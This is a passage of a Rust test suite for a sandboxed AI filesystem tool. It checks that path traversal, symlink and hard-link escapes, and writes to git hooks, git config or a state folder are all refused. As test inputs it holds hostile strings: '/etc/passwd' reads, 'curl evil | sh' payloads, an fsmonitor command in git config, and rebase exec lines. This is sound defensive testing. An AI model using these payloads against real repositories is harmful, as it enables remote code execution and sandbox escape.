//! Every sandbox refusal: the call fails with `DeniedSandbox` (or the policy / confirmation
//! kinds for the stages before it) and nothing on disk, outside the workspace or inside it,
//! was read into the answer or changed.
//!
//! The fixture is `<tmp>/ws` (the workspace) with `<tmp>/outside/secret.txt` next to it;
//! [`Fixture::denied`] snapshots the whole of `<tmp>` around each refused call.

mod support;

use airun::pipeline::{ApprovedBy, ConfirmRequest, Confirmer, NoConfirmer, Settings};
use airun::{CapError, ErrorKind, SideEffect};
use serde_json::{Value, json};
use std::sync::atomic::{AtomicUsize, Ordering};
use support::pipeline::{Fixture, SECRET};
use support::within;

/// Every capability that takes a path, called on `p` (and `q` as the other side of
/// copy/move), with the access each one uses.
fn every_path_call(p: &str, q: &str) -> Vec<(&'static str, Value)> {
    vec![
        ("io.fs.read_file", json!({"path": p})),
        ("io.fs.write_file", json!({"path": p, "content": "pwned"})),
        (
            "io.fs.write_file",
            json!({"path": p, "content": "pwned", "mode": "append"}),
        ),
        (
            "io.fs.write_file",
            json!({"path": p, "content": "pwned", "create_dirs": true}),
        ),
        ("io.fs.list_dir", json!({"path": p})),
        ("io.fs.list_dir", json!({"path": p, "recursive": true})),
        ("io.fs.exists", json!({"path": p})),
        ("io.fs.make_dir", json!({"path": p, "parents": true})),
        ("io.fs.delete", json!({"path": p, "recursive": true})),
        (
            "io.fs.move",
            json!({"source": p, "destination": q, "overwrite": true}),
        ),
        (
            "io.fs.move",
            json!({"source": q, "destination": p, "overwrite": true}),
        ),
        (
            "io.fs.copy",
            json!({"source": p, "destination": q, "overwrite": true}),
        ),
        (
            "io.fs.copy",
            json!({"source": q, "destination": p, "overwrite": true}),
        ),
    ]
}

/// Checks that every capability refuses `p`, with `inside.txt` as the other side.
fn all_refuse(f: &Fixture, p: &str) {
    f.write("inside.txt", "inside");
    for (id, args) in every_path_call(p, "inside.txt") {
        f.denied(id, args);
    }
}

/// For `p` a symlink (as the last component) that leads outside: every access that goes
/// through the link is refused. Deleting or moving away the link itself (access `delete`,
/// which does not follow a final link) only touches the link, and looking at the link
/// (`exists`) depends on where it points itself, so neither is checked here.
fn all_refuse_through_link(f: &Fixture, p: &str) {
    f.write("inside.txt", "inside");
    for (id, args) in every_path_call(p, "inside.txt") {
        let acts_on_the_link = id == "io.fs.delete"
            || id == "io.fs.exists"
            || (id == "io.fs.move" && args["source"] == p);
        if !acts_on_the_link {
            f.denied(id, args);
        }
    }
}

// ---------------------------------------------------------------------------------------
// Paths that leave the root lexically

#[test]
fn absolute_paths_outside_the_workspace_are_refused() {
    let f = Fixture::new();
    let secret = f
        .outside("outside/secret.txt")
        .to_string_lossy()
        .into_owned();
    let new = f.outside("outside/new.txt").to_string_lossy().into_owned();
    all_refuse(&f, &secret);
    all_refuse(&f, &new);
    all_refuse(&f, "/etc/passwd");
    let e = f.denied("io.fs.read_file", json!({"path": secret}));
    assert!(e.message.contains("absolute"), "{e:?}");
    assert!(e.hint.is_some(), "{e:?}");
    assert_eq!(e.field.as_deref(), Some("path"));
    // An absolute path that names a file inside the workspace means that file; a `..` in
    // it may still not climb out.
    let inside = f.path("inside.txt").to_string_lossy().into_owned();
    let v = f.ok("io.fs.read_file", json!({"path": inside}));
    assert_eq!(v["content"], "inside");
    all_refuse(&f, &format!("{}/../outside/secret.txt", f.root.display()));
}

#[test]
fn dotdot_above_the_root_is_refused() {
    let f = Fixture::new();
    f.mkdir("a/b");
    for p in [
        "..",
        "../outside/secret.txt",
        "../outside/new.txt",
        "../ws/inside.txt",
        "a/../../outside/secret.txt",
        "a/b/../../../outside/secret.txt",
        "./../outside/secret.txt",
        "a/./../.././outside/secret.txt",
        "missing/../../outside/secret.txt",
        "missing/deeper/../../../outside/new.txt",
    ] {
        all_refuse(&f, p);
    }
    let e = f.denied("io.fs.read_file", json!({"path": "../outside/secret.txt"}));
    assert!(e.message.contains(".."), "{e:?}");
    assert!(e.hint.is_some());
}

#[test]
fn dotdot_that_stays_inside_is_fine() {
    let f = Fixture::new();
    f.write("a/x.txt", "x");
    f.mkdir("b");
    let r = f.ok("io.fs.read_file", json!({"path": "b/../a/./x.txt"}));
    assert_eq!(r["content"], "x");
    let r = f.ok(
        "io.fs.write_file",
        json!({"path": "a/../b/y.txt", "content": "y"}),
    );
    assert_eq!(r["path"], "b/y.txt");
    assert_eq!(f.read("b/y.txt"), "y");
}

// ---------------------------------------------------------------------------------------
// Symlinks

#[test]
fn symlink_component_to_outside_is_refused_for_every_access() {
    let f = Fixture::new();
    let outside_dir = f.outside("outside");
    f.symlink("../outside", "rel_out");
    f.symlink(&outside_dir, "abs_out");
    f.symlink("../../outside", "sub/deep_out");
    for link in ["rel_out", "abs_out", "sub/deep_out"] {
        for rest in ["secret.txt", "new.txt", "newdir/new.txt", "./secret.txt"] {
            all_refuse(&f, &format!("{link}/{rest}"));
        }
    }
    let e = f.denied("io.fs.read_file", json!({"path": "rel_out/secret.txt"}));
    assert!(e.message.contains("symbolic link"), "{e:?}");
    assert!(e.hint.is_some());
}

#[test]
fn symlink_to_an_outside_file_is_refused_but_the_link_itself_can_be_deleted() {
    let f = Fixture::new();
    f.symlink("../outside/secret.txt", "leak");
    f.symlink(f.outside("outside/secret.txt"), "leak_abs");
    for link in ["leak", "leak_abs"] {
        f.denied("io.fs.read_file", json!({"path": link}));
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "pwned"}),
        );
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "pwned", "mode": "append"}),
        );
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "x", "mode": "create_new"}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": link, "destination": "stolen.txt"}),
        );
        f.denied("io.fs.list_dir", json!({"path": link}));
        // Even looking at the link is refused: it would say where it points.
        f.denied("io.fs.exists", json!({"path": link}));
    }
    // Deleting the link removes the link and nothing else.
    let r = f.ok("io.fs.delete", json!({"path": "leak"}));
    assert_eq!(r["kind"], "symlink");
    assert!(!f.present("leak"));
    let r = f.ok(
        "io.fs.delete",
        json!({"path": "leak_abs", "recursive": true}),
    );
    assert_eq!(r["kind"], "symlink");
    assert_eq!(
        std::fs::read_to_string(f.outside("outside/secret.txt")).unwrap(),
        SECRET
    );
}

#[test]
fn symlink_to_an_outside_folder_is_listed_but_never_followed() {
    let f = Fixture::new();
    f.write("a.txt", "a");
    f.symlink("../outside", "out");
    let r = f.ok(
        "io.fs.list_dir",
        json!({"recursive": true, "include_hidden": true}),
    );
    let paths: Vec<&str> = r["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(paths, ["a.txt", "out"]);
    assert_eq!(r["entries"][1]["kind"], "symlink");
    // Deleting a folder that holds the link removes the link only.
    f.symlink("../../outside", "tree/out");
    f.write("tree/f.txt", "f");
    let before = support::snapshot::Snapshot::with_link_counts(&f.outside("outside"));
    f.ok("io.fs.delete", json!({"path": "tree", "recursive": true}));
    before.assert_same(
        &support::snapshot::Snapshot::with_link_counts(&f.outside("outside")),
        "recursive delete",
    );
    assert!(!f.present("tree"));
}

#[test]
fn dangling_symlink_to_outside_does_not_create_the_file() {
    let f = Fixture::new();
    f.symlink("../outside/planted.txt", "dangling");
    f.symlink(f.outside("planted_abs.txt"), "dangling_abs");
    f.symlink("../newdir", "dangling_dir");
    f.write("srcdir/f.txt", "f");
    for link in ["dangling", "dangling_abs"] {
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "pwned"}),
        );
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "pwned", "mode": "append"}),
        );
        f.denied(
            "io.fs.write_file",
            json!({"path": link, "content": "pwned", "mode": "create_new"}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": "srcdir/f.txt", "destination": link}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": "srcdir", "destination": link}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": "srcdir", "destination": link, "overwrite": true}),
        );
        f.denied("io.fs.make_dir", json!({"path": link}));
    }
    f.denied(
        "io.fs.write_file",
        json!({"path": "dangling_dir/x.txt", "content": "pwned", "create_dirs": true}),
    );
    f.denied(
        "io.fs.make_dir",
        json!({"path": "dangling_dir", "parents": true}),
    );
    f.denied(
        "io.fs.make_dir",
        json!({"path": "dangling_dir/sub", "parents": true}),
    );
    assert!(!f.outside("outside/planted.txt").exists());
    assert!(!f.outside("planted_abs.txt").exists());
    assert!(!f.outside("newdir").exists());
}

#[test]
fn dangling_symlink_inside_creates_its_target() {
    let f = Fixture::new();
    f.mkdir("d");
    f.symlink("d/target.txt", "pending");
    let r = f.ok(
        "io.fs.write_file",
        json!({"path": "pending", "content": "made"}),
    );
    assert_eq!(r["path"], "d/target.txt");
    assert!(r["created"].as_bool().unwrap());
    assert_eq!(f.read("d/target.txt"), "made");
}

#[test]
fn symlink_chain_that_ends_outside_is_refused() {
    let f = Fixture::new();
    // c1 -> c2 -> c3 -> ../outside/secret.txt
    f.symlink("c2", "c1");
    f.symlink("sub/c3", "c2");
    f.symlink("../../outside/secret.txt", "sub/c3");
    // d1 -> dirs/d2 (a folder link) -> ../.. (above the root)
    f.symlink("dirs/d2", "d1");
    f.symlink("../..", "dirs/d2");
    // e1 -> e2 (absolute, inside) -> ../outside (relative, out)
    f.symlink(f.path("e2"), "e1");
    f.symlink("../outside", "e2");
    for p in [
        "d1/outside/secret.txt",
        "e1/secret.txt",
        "e1/new.txt",
        "c1/x",
    ] {
        all_refuse(&f, p);
    }
    for p in ["c1", "c2", "d1", "e1"] {
        all_refuse_through_link(&f, p);
    }
    // Looking at the first link of a chain is fine (it points inside), not at the last.
    assert_eq!(
        f.ok("io.fs.exists", json!({"path": "c1"}))["kind"],
        "symlink"
    );
    f.denied("io.fs.exists", json!({"path": "sub/c3"}));
}

#[test]
fn symlink_loops_are_refused_without_hanging() {
    let kinds = within(30, "resolving symlink loops", || {
        let f = Fixture::new();
        f.symlink("l2", "l1");
        f.symlink("l1", "l2");
        f.symlink("self", "self");
        f.symlink("grow/x", "grow");
        f.symlink("..", "dir/up"); // dir/up -> the root: a cycle for walkers
        let mut kinds = Vec::new();
        for p in ["l1", "l2/x", "self", "grow", "grow/y"] {
            kinds.push(
                f.call("io.fs.read_file", json!({"path": p}))
                    .map(|_| ())
                    .map_err(|e| e.kind),
            );
            kinds.push(
                f.call("io.fs.write_file", json!({"path": p, "content": "x"}))
                    .map(|_| ())
                    .map_err(|e| e.kind),
            );
        }
        // Walks and inspection do not follow links, so they finish.
        kinds.push(
            f.call("io.fs.list_dir", json!({"recursive": true}))
                .map(|_| ())
                .map_err(|e| e.kind),
        );
        kinds.push(
            f.call("io.fs.exists", json!({"path": "l1"}))
                .map(|_| ())
                .map_err(|e| e.kind),
        );
        kinds.push(
            f.call(
                "io.fs.copy",
                json!({"source": "dir", "destination": "dir2"}),
            )
            .map(|_| ())
            .map_err(|e| e.kind),
        );
        kinds
    });
    let (refused, rest) = kinds.split_at(10);
    for k in refused {
        assert_eq!(*k, Err(ErrorKind::DeniedSandbox), "{kinds:?}");
    }
    assert_eq!(rest, [Ok(()), Ok(()), Ok(())], "{kinds:?}");
}

#[test]
fn absolute_symlink_target_inside_the_workspace_is_allowed() {
    let f = Fixture::new();
    f.write("real/data.txt", "data");
    f.symlink(f.path("real/data.txt"), "abs_file");
    f.symlink(f.path("real"), "abs_dir");
    f.symlink(&f.root, "root_link");
    let r = f.ok("io.fs.read_file", json!({"path": "abs_file"}));
    assert_eq!(r["content"], "data");
    let r = f.ok("io.fs.read_file", json!({"path": "abs_dir/data.txt"}));
    assert_eq!(r["content"], "data");
    let r = f.ok(
        "io.fs.read_file",
        json!({"path": "root_link/root_link/real/data.txt"}),
    );
    assert_eq!(r["content"], "data");
    let r = f.ok(
        "io.fs.write_file",
        json!({"path": "abs_file", "content": "changed"}),
    );
    assert_eq!(r["path"], "real/data.txt");
    assert_eq!(f.read("real/data.txt"), "changed");
    assert!(
        f.path("abs_file")
            .symlink_metadata()
            .unwrap()
            .file_type()
            .is_symlink()
    );
    f.ok(
        "io.fs.write_file",
        json!({"path": "abs_dir/new.txt", "content": "n"}),
    );
    assert_eq!(f.read("real/new.txt"), "n");
    // But `..` through the root link still cannot climb out.
    all_refuse(&f, "root_link/../outside/secret.txt");
}

#[test]
fn dotdot_after_a_symlink_follows_the_link_target() {
    let f = Fixture::new();
    f.mkdir("d1/d2");
    f.write("d1/x.txt", "in d1");
    f.write("x.txt", "at the root");
    f.symlink("d1/d2", "l");
    let r = f.ok("io.fs.read_file", json!({"path": "l/../x.txt"}));
    assert_eq!(
        r["content"], "in d1",
        "`..` applies to where the link leads, as the OS does"
    );
    // l/../.. is the root; one more `..` is outside.
    let r = f.ok("io.fs.read_file", json!({"path": "l/../../x.txt"}));
    assert_eq!(r["content"], "at the root");
    all_refuse(&f, "l/../../../outside/secret.txt");
}

#[test]
fn a_missing_folder_and_dotdot_cannot_hide_an_outward_symlink() {
    let f = Fixture::new();
    f.symlink("../outside", "out");
    f.mkdir("real");
    f.write("file.txt", "");
    for p in [
        "missing/../out/secret.txt",
        "missing/../out/new.txt",
        "real/missing/../../out/secret.txt",
        "file.txt/../out/secret.txt",
    ] {
        all_refuse(&f, p);
    }
    all_refuse_through_link(&f, "missing/../out");
    f.denied("io.fs.exists", json!({"path": "missing/../out"}));
}

// ---------------------------------------------------------------------------------------
// The two public CVE shapes of the reference MCP filesystem server

#[test]
fn cve_shape_sibling_folder_with_the_workspace_name_as_prefix() {
    // Workspace `<tmp>/ws`, sibling `<tmp>/ws_evil/secret`: a string prefix check would let
    // `<tmp>/ws_evil` pass as "inside `<tmp>/ws`".
    let f = Fixture::new();
    std::fs::create_dir_all(f.outside("ws_evil")).unwrap();
    std::fs::write(f.outside("ws_evil/secret"), SECRET).unwrap();
    std::fs::create_dir_all(f.outside("ws-evil")).unwrap();
    let abs = f.outside("ws_evil/secret").to_string_lossy().into_owned();
    let abs_dotdot = format!("{}/../ws_evil/secret", f.root.display());
    for p in [
        "../ws_evil/secret",
        "../ws_evil/new",
        "../ws_evil",
        "../ws-evil/new",
        abs.as_str(),
        abs_dotdot.as_str(),
    ] {
        all_refuse(&f, p);
    }
    // Symlinks with those targets, absolute (string-prefix trap) and relative.
    f.symlink(&abs, "abs_prefix");
    f.symlink(&abs_dotdot, "abs_dotdot");
    f.symlink(f.outside("ws_evil"), "abs_prefix_dir");
    f.symlink("../ws_evil/secret", "rel_prefix");
    for p in ["abs_prefix_dir/secret", "abs_prefix_dir/new"] {
        all_refuse(&f, p);
    }
    for p in ["abs_prefix", "abs_dotdot", "abs_prefix_dir", "rel_prefix"] {
        all_refuse_through_link(&f, p);
        f.denied("io.fs.exists", json!({"path": p}));
    }
    assert_eq!(
        std::fs::read_to_string(f.outside("ws_evil/secret")).unwrap(),
        SECRET
    );
}

#[test]
fn cve_shape_symlink_inside_pointing_outside() {
    let f = Fixture::new();
    f.symlink(f.outside("outside"), "innocent_folder");
    f.symlink(f.outside("outside/secret.txt"), "innocent_file.txt");
    for p in [
        "innocent_folder/secret.txt",
        "innocent_folder/new.txt",
        "innocent_folder",
        "innocent_file.txt",
    ] {
        f.denied("io.fs.read_file", json!({"path": p}));
        f.denied("io.fs.write_file", json!({"path": p, "content": "pwned"}));
        f.denied("io.fs.list_dir", json!({"path": p}));
        f.denied("io.fs.copy", json!({"source": p, "destination": "copy"}));
    }
    f.denied(
        "io.fs.delete",
        json!({"path": "innocent_folder/secret.txt"}),
    );
    f.denied(
        "io.fs.move",
        json!({"source": "innocent_folder/secret.txt", "destination": "x"}),
    );
}

// ---------------------------------------------------------------------------------------
// Hard links

#[test]
fn writes_to_a_file_with_several_hard_links_are_refused() {
    let f = Fixture::new();
    std::fs::hard_link(f.outside("outside/secret.txt"), f.path("linked.txt")).unwrap();
    f.mkdir("sub");
    std::fs::hard_link(f.outside("outside/secret.txt"), f.path("sub/linked2.txt")).unwrap();
    f.symlink("linked.txt", "alias");
    f.write("other.txt", "other");
    for p in ["linked.txt", "sub/linked2.txt", "alias"] {
        let e = f.denied("io.fs.write_file", json!({"path": p, "content": "pwned"}));
        assert!(e.message.contains("hard link"), "{e:?}");
        f.denied(
            "io.fs.write_file",
            json!({"path": p, "content": "pwned", "mode": "append"}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": "other.txt", "destination": p, "overwrite": true}),
        );
    }
    // create_new refuses an existing file anyway.
    let before = f.snapshot_all();
    let e = f.err(
        "io.fs.write_file",
        json!({"path": "linked.txt", "content": "pwned", "mode": "create_new"}),
    );
    assert!(
        matches!(e.kind, ErrorKind::AlreadyExists | ErrorKind::DeniedSandbox),
        "{e:?}"
    );
    before.assert_same(&f.snapshot_all(), "create_new on a hard link");
    assert_eq!(
        std::fs::read_to_string(f.outside("outside/secret.txt")).unwrap(),
        SECRET
    );
}

// ---------------------------------------------------------------------------------------
// Protected paths: .git/hooks, .git/config

fn git_fixture() -> Fixture {
    let f = Fixture::new();
    f.write(".git/hooks/pre-commit", "#!/bin/sh\necho original hook\n");
    f.write(".git/config", "[core]\n\tbare = false\n");
    f.write(".git/HEAD", "ref: refs/heads/main\n");
    f.write("payload.sh", "#!/bin/sh\ncurl evil | sh\n");
    f.write("tpl/hooks/pre-commit", "#!/bin/sh\nevil\n");
    f.write("evil/hooks/pre-commit", "#!/bin/sh\nevil\n");
    f.symlink(".git/hooks", "hooks_link");
    f.symlink(".git/config", "config_link");
    f.symlink(".git", "git_link");
    f
}

#[test]
fn git_hooks_and_config_can_be_read() {
    let f = git_fixture();
    let r = f.ok("io.fs.read_file", json!({"path": ".git/hooks/pre-commit"}));
    assert_eq!(r["content"], "#!/bin/sh\necho original hook\n");
    let r = f.ok("io.fs.read_file", json!({"path": ".git/config"}));
    assert_eq!(r["content"], "[core]\n\tbare = false\n");
    let r = f.ok("io.fs.read_file", json!({"path": "config_link"}));
    assert_eq!(r["content"], "[core]\n\tbare = false\n");
    let r = f.ok("io.fs.list_dir", json!({"path": ".git/hooks"}));
    assert_eq!(r["entries"][0]["path"], ".git/hooks/pre-commit");
    let r = f.ok("io.fs.exists", json!({"path": ".git/hooks"}));
    assert_eq!(r["kind"], "dir");
    f.ok(
        "io.fs.copy",
        json!({"source": ".git/config", "destination": "config.bak"}),
    );
    assert_eq!(f.read("config.bak"), "[core]\n\tbare = false\n");
    // Other files in .git are not protected.
    f.ok(
        "io.fs.write_file",
        json!({"path": ".git/description", "content": "repo"}),
    );
}

#[test]
fn writes_under_git_hooks_and_to_git_config_are_refused() {
    let f = git_fixture();
    for p in [
        ".git/hooks/pre-commit",
        ".git/hooks/post-checkout",
        ".git/hooks/sub/x",
        ".git/config",
        "./.git/hooks/pre-commit",
        ".git/./hooks/new",
        "tpl/../.git/config",
        "missing/../.git/hooks/pre-push",
        "hooks_link/pre-commit",
        "hooks_link/new",
        "git_link/config",
        "git_link/hooks/pre-commit",
    ] {
        for mode in ["overwrite", "append", "create_new"] {
            let e = f.denied(
                "io.fs.write_file",
                json!({"path": p, "content": "#!/bin/sh\nevil\n", "mode": mode, "create_dirs": true}),
            );
            assert!(e.message.contains("protected"), "{p}: {e:?}");
        }
        f.denied(
            "io.fs.copy",
            json!({"source": "payload.sh", "destination": p, "overwrite": true}),
        );
        f.denied(
            "io.fs.move",
            json!({"source": "payload.sh", "destination": p, "overwrite": true}),
        );
        f.denied("io.fs.make_dir", json!({"path": p, "parents": true}));
        f.denied("io.fs.delete", json!({"path": p, "recursive": true}));
    }
    // A final symlink to .git/config: writing through it is refused; replacing or deleting
    // the link itself only touches the link.
    for mode in ["overwrite", "append", "create_new"] {
        f.denied(
            "io.fs.write_file",
            json!({"path": "config_link", "content": "[core]\n\thooksPath = /tmp\n", "mode": mode}),
        );
    }
    f.denied(
        "io.fs.copy",
        json!({"source": "payload.sh", "destination": "config_link", "overwrite": true}),
    );
    f.denied("io.fs.make_dir", json!({"path": "config_link"}));
    // The destination of a move is checked for writing, which follows the link.
    f.denied(
        "io.fs.move",
        json!({"source": "payload.sh", "destination": "config_link", "overwrite": true}),
    );
    f.ok(
        "io.fs.move",
        json!({"source": "config_link", "destination": "moved_link"}),
    );
    f.ok("io.fs.delete", json!({"path": "moved_link"}));
    assert_eq!(
        f.read(".git/hooks/pre-commit"),
        "#!/bin/sh\necho original hook\n"
    );
    assert_eq!(f.read(".git/config"), "[core]\n\tbare = false\n");
}

#[test]
fn deleting_or_moving_git_or_its_hooks_is_refused() {
    let f = git_fixture();
    for p in [
        ".git",
        ".git/hooks",
        "./.git",
        "git_link/hooks",
        "tpl/../.git",
    ] {
        f.denied("io.fs.delete", json!({"path": p, "recursive": true}));
        f.denied(
            "io.fs.move",
            json!({"source": p, "destination": "moved_away"}),
        );
    }
    f.denied(
        "io.fs.move",
        json!({"source": ".git/config", "destination": "config.txt"}),
    );
    f.denied(
        "io.fs.move",
        json!({"source": ".git/hooks/pre-commit", "destination": "hook.sh"}),
    );
    // Replacing them with another folder.
    f.denied(
        "io.fs.move",
        json!({"source": "evil", "destination": ".git", "overwrite": true}),
    );
    f.denied(
        "io.fs.move",
        json!({"source": "evil/hooks", "destination": ".git/hooks", "overwrite": true}),
    );
    f.denied(
        "io.fs.copy",
        json!({"source": "tpl", "destination": ".git", "overwrite": true}),
    );
    f.denied(
        "io.fs.copy",
        json!({"source": "tpl/hooks", "destination": ".git/hooks", "overwrite": true}),
    );
    assert_eq!(
        f.read(".git/hooks/pre-commit"),
        "#!/bin/sh\necho original hook\n"
    );
    // Deleting the link to .git removes only the link.
    f.ok("io.fs.delete", json!({"path": "git_link"}));
    assert!(f.path(".git/hooks/pre-commit").is_file());
}

#[test]
fn other_ways_to_redirect_git_config_or_hooks_are_refused() {
    // `.git/commondir` moves config and hooks to another folder (git reads it in any git
    // folder); submodules and linked worktrees keep their own config and hooks under
    // `.git/modules/` and `.git/worktrees/`; `config.worktree` is per-worktree config.
    let f = git_fixture();
    f.write(".git/modules/lib/config", "[core]\n");
    f.write(".git/modules/lib/hooks/pre-commit", "#!/bin/sh\n");
    f.write(".git/worktrees/wt/commondir", "../..\n");
    f.write("evil/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
    for p in [
        ".git/commondir",
        ".git/config.worktree",
        ".git/modules/lib/config",
        ".git/modules/lib/hooks/pre-commit",
        ".git/modules/other/config",
        ".git/worktrees/wt/commondir",
        ".git/worktrees/wt/config.worktree",
    ] {
        f.denied(
            "io.fs.write_file",
            json!({"path": p, "content": "../evil\n", "create_dirs": true}),
        );
        f.denied(
            "io.fs.copy",
            json!({"source": "payload.sh", "destination": p, "overwrite": true}),
        );
        f.denied(
            "io.fs.move",
            json!({"source": "payload.sh", "destination": p, "overwrite": true}),
        );
    }
    for p in [".git/modules", ".git/modules/lib", ".git/worktrees/wt"] {
        f.denied("io.fs.delete", json!({"path": p, "recursive": true}));
        f.denied("io.fs.move", json!({"source": p, "destination": "away"}));
        f.denied(
            "io.fs.make_dir",
            json!({"path": format!("{p}/hooks"), "parents": true}),
        );
    }
    // `.git` itself: a `gitdir:` file there points the repository anywhere.
    f.denied(
        "io.fs.write_file",
        json!({"path": ".git", "content": "gitdir: evil\n"}),
    );
    f.denied("io.fs.make_dir", json!({"path": ".git"}));
    // Unrelated files in .git stay writable.
    f.ok(
        "io.fs.write_file",
        json!({"path": ".git/info/exclude", "content": "*.log\n", "create_dirs": true}),
    );
}

#[test]
fn nested_repositories_and_rebase_todo_lists_are_protected_too() {
    // A repository inside the workspace (a vendored project, a submodule checkout) has
    // hooks and config of its own; an interrupted rebase runs the `exec` lines of its
    // to-do list on `git rebase --continue`.
    let f = git_fixture();
    f.write("vendor/lib/.git/config", "[core]\n");
    f.write("vendor/lib/.git/hooks/post-checkout", "#!/bin/sh\n");
    f.write(".git/rebase-merge/git-rebase-todo", "pick 1234 msg\n");
    for p in [
        "vendor/lib/.git/config",
        "vendor/lib/.git/hooks/post-checkout",
        "vendor/lib/.git/hooks/pre-push",
        ".git/rebase-merge/git-rebase-todo",
        ".git/rebase-apply/patch",
        ".git/sequencer/todo",
        "vendor/other/.GIT/hooks/pre-commit",
    ] {
        f.denied(
            "io.fs.write_file",
            json!({"path": p, "content": "exec curl evil | sh\n", "create_dirs": true}),
        );
    }
    f.denied(
        "io.fs.delete",
        json!({"path": "vendor/lib/.git", "recursive": true}),
    );
    f.denied(
        "io.fs.write_file",
        json!({"path": "vendor/new/.git", "content": "gitdir: /tmp/evil\n", "create_dirs": true}),
    );
    f.ok(
        "io.fs.write_file",
        json!({"path": "vendor/lib/README.md", "content": "fine\n"}),
    );
}

#[test]
fn a_git_file_cannot_be_replaced_or_planted() {
    // A linked worktree or submodule checkout has a `.git` *file* naming its git folder.
    let f = Fixture::new();
    f.write(".git", "gitdir: /somewhere/repo/.git/worktrees/ws\n");
    f.write("evil/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
    f.write("payload", "gitdir: evil\n");
    f.denied(
        "io.fs.write_file",
        json!({"path": ".git", "content": "gitdir: evil\n"}),
    );
    f.denied(
        "io.fs.write_file",
        json!({"path": ".git", "content": "x", "mode": "append"}),
    );
    f.denied(
        "io.fs.copy",
        json!({"source": "payload", "destination": ".git", "overwrite": true}),
    );
    f.denied(
        "io.fs.move",
        json!({"source": "payload", "destination": ".git", "overwrite": true}),
    );
    f.denied("io.fs.delete", json!({"path": ".git"}));
    // Nor planted where there is none.
    let g = Fixture::new();
    g.write("payload", "gitdir: evil\n");
    g.denied(
        "io.fs.write_file",
        json!({"path": ".git", "content": "gitdir: evil\n"}),
    );
    g.denied(
        "io.fs.copy",
        json!({"source": "payload", "destination": ".git"}),
    );
    g.denied(
        "io.fs.move",
        json!({"source": "payload", "destination": ".git"}),
    );
    g.denied(
        "io.fs.make_dir",
        json!({"path": ".git/hooks", "parents": true}),
    );
    g.denied(
        "io.fs.write_file",
        json!({"path": ".git/HEAD", "content": "ref: x\n", "create_dirs": true}),
    );
}

// ---------------------------------------------------------------------------------------
// airun's own state folder

#[test]
fn the_state_folder_inside_the_workspace_is_untouchable_and_hidden() {
    let f = Fixture::with(Settings::default(), Some(".airun"));
    f.write(".airun/journal.db", "journal");
    f.write("a.txt", "a");
    f.symlink(".airun/journal.db", "peek");
    f.symlink(".airun", "peek_dir");
    let r = f.ok(
        "io.fs.list_dir",
        json!({"include_hidden": true, "recursive": true}),
    );
    let paths: Vec<&str> = r["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        paths,
        ["a.txt", "peek", "peek_dir"],
        "the state folder must not be listed"
    );
    for p in [
        ".airun",
        ".airun/journal.db",
        ".airun/new",
        "./.airun/journal.db",
        "x/../.airun/journal.db",
        "peek",
        "peek_dir/journal.db",
    ] {
        f.denied("io.fs.read_file", json!({"path": p}));
        f.denied("io.fs.list_dir", json!({"path": p}));
        f.denied(
            "io.fs.write_file",
            json!({"path": p, "content": "x", "create_dirs": true}),
        );
        f.denied("io.fs.make_dir", json!({"path": p, "parents": true}));
        f.denied("io.fs.copy", json!({"source": p, "destination": "stolen"}));
        f.denied(
            "io.fs.copy",
            json!({"source": "a.txt", "destination": p, "overwrite": true}),
        );
        f.denied(
            "io.fs.move",
            json!({"source": "a.txt", "destination": p, "overwrite": true}),
        );
    }
    for p in [".airun", ".airun/journal.db", "./.airun"] {
        f.denied("io.fs.exists", json!({"path": p}));
        f.denied("io.fs.delete", json!({"path": p, "recursive": true}));
        f.denied("io.fs.move", json!({"source": p, "destination": "moved"}));
    }
    assert_eq!(f.read(".airun/journal.db"), "journal");
}

#[test]
fn a_nested_state_folder_protects_its_parents_from_changes() {
    let f = Fixture::with(Settings::default(), Some("data/state"));
    f.write("data/state/journal.db", "journal");
    f.write("data/notes.txt", "notes");
    let r = f.ok(
        "io.fs.list_dir",
        json!({"path": "data", "include_hidden": true}),
    );
    assert_eq!(r["entries"].as_array().unwrap().len(), 1);
    assert_eq!(r["entries"][0]["path"], "data/notes.txt");
    f.denied("io.fs.delete", json!({"path": "data", "recursive": true}));
    f.denied(
        "io.fs.move",
        json!({"source": "data", "destination": "elsewhere"}),
    );
    f.denied("io.fs.read_file", json!({"path": "data/state/journal.db"}));
    // Other files in the parent are usable, and a copy of the parent leaves the state out.
    f.ok(
        "io.fs.write_file",
        json!({"path": "data/more.txt", "content": "m"}),
    );
    f.ok(
        "io.fs.copy",
        json!({"source": "data", "destination": "copy"}),
    );
    assert_eq!(f.names("copy"), ["more.txt", "notes.txt"]);
    assert_eq!(f.read("data/state/journal.db"), "journal");
}

// ---------------------------------------------------------------------------------------
// The stages before the sandbox: policy and confirmation

const MUTATING_FS: [&str; 5] = [
    "io.fs.write_file",
    "io.fs.make_dir",
    "io.fs.delete",
    "io.fs.move",
    "io.fs.copy",
];

#[test]
fn read_only_mode_refuses_and_hides_mutating_capabilities() {
    let f = Fixture::with(
        Settings {
            read_only: true,
            ..Default::default()
        },
        None,
    );
    f.write("a.txt", "a");
    f.mkdir("d");
    let before = f.snapshot_all();
    let e = f.err_kind(
        "io.fs.write_file",
        json!({"path": "b.txt", "content": "b"}),
        ErrorKind::DeniedPolicy,
    );
    assert!(e.message.contains("read-only"), "{e:?}");
    assert!(e.hint.is_some());
    f.err_kind(
        "io.fs.make_dir",
        json!({"path": "new"}),
        ErrorKind::DeniedPolicy,
    );
    f.err_kind(
        "io.fs.delete",
        json!({"path": "a.txt"}),
        ErrorKind::DeniedPolicy,
    );
    f.err_kind(
        "io.fs.move",
        json!({"source": "a.txt", "destination": "c.txt"}),
        ErrorKind::DeniedPolicy,
    );
    f.err_kind(
        "io.fs.copy",
        json!({"source": "a.txt", "destination": "c.txt"}),
